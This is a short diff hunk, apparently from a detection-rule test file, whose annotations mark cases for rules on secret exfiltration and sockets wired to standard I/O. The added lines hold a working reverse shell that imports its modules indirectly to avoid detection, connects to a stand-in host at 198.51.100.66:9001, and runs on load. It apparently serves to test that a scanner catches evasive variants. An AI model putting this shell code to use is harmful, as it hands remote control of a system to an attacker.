@@ -333,3 +333,15 @@ _Other().push({"status": "ok"})
 to = [r.strip() for r in os.environ.get("REPORT_RECIPIENTS", "").split(",")]
 # ok: secret-exfiltration
 smtp.sendmail("bot@example.com", to, "report")
+# the descriptors in a loop, os reached through a module list
+_mods = [__import__(m) for m in ("socket", "os")]
+_sock_mod, _os_mod = _mods
+def _attach(s):
+    for fd in range(3):
+        # ruleid: socket-to-stdio
+        _os_mod.dup2(s.fileno(), fd)
+def _connect(host, port):
+    s = _sock_mod.socket(_sock_mod.AF_INET, _sock_mod.SOCK_STREAM)
+    s.connect((host, port))
+    return s
+_attach(_connect("198.51.100.66", 9001))
